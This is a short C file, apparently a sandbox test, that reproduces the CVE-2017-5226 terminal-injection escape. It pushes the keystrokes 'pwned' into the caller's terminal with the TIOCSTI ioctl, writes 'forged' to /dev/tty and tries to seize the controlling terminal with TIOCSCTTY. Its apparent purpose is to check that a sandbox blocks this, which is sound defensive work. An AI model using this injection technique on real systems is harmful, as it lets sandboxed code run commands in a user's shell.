/* CVE-2017-5226: types on the caller's terminal, or reads from it. */
#include <sys/ioctl.h>
#include <termios.h>

#include "evil.h"

static void type_on(const char *name, int fd)
{
	if (fd < 0)
		return;
	for (const char *c = "pwned\n"; *c != '\0'; c++)
		if (ioctl(fd, TIOCSTI, c) != 0) {
			printf("%s: %s\n", name, strerror(errno));
			break;
		}
}

/* keys: what arrives is for the test to see, on the caller's side. */
int keys(char **arg)
{
	const int tty = open("/dev/tty", O_RDWR);

	(void)arg;
	for (int fd = 0; fd < 3; fd++)
		type_on("stdio", fd);
	type_on("/dev/tty", tty);
	if (tty >= 0)
		(void)!write(tty, "forged\n", 7);
	/* Takes another's controlling terminal, which only CAP_SYS_ADMIN may. */
	ioctl(0, TIOCSCTTY, 1);
	puts("done");
	return 0;
}
